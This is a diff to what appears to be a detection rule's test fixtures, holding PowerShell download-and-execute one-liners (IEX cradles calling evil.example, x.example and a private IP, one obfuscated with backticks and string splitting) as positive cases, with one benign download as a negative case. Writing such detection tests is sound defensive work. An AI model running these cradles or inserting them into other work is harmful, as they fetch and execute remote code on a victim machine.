@@ -20,7 +20,7 @@ export const rule = defineRule({
       ['powershell', "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"],
       ['powershell', 'iwr https://evil.example/x.ps1 -UseBasicParsing | iex'],
       ['powershell', "I`E`X (New-Object Net.WebClient).DownloadString('h'+'ttp://x.example/p')"],
-      ['powershell', "(New-Object System.Net.WebClient).DownloadFile('http://x.example/a.exe',\"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\""],
+      ['powershell', "$s = (New-Object Net.WebClient).DownloadString('http://x.example/a'); [ScriptBlock]::Create($s).Invoke()"],
     ],
     negative: [
       ['powershell', 'Invoke-WebRequest https://example.com/file.zip -OutFile file.zip; Expand-Archive file.zip'],
